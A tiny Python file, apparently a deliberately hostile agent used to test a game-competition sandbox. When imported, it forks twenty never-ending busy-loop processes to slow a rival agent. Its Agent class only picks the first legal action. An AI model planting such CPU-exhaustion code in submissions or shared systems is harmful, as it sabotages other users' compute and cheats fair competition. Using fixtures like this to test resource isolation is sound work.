"""Has twenty children that do nothing but compute, so that the other one thinks more slowly."""

import os

for _ in range(20):
    if os.fork() == 0:
        while True:
            pass


class Agent:
    def act(self, observation):
        return int(observation["action_mask"].argmax())
